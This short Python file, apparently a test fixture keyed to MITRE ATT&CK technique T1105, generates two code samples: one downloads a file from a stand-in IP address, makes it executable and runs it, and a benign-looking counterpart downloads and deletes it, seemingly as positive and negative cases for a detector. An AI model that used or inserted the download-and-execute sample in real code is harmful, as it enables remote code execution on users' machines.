"""https://attack.mitre.org/techniques/T1105/"""

from __future__ import annotations

_GET = """import os
import urllib.request


def get():
    urllib.request.urlretrieve("http://198.51.100.7/x", "tool")
"""


def fires() -> bytes:
    return (_GET + "    os.chmod('tool', 0o755)\n    os.system('./tool')\n").encode()


def quiet() -> bytes:
    return (_GET + "    os.remove('tool')\n").encode()
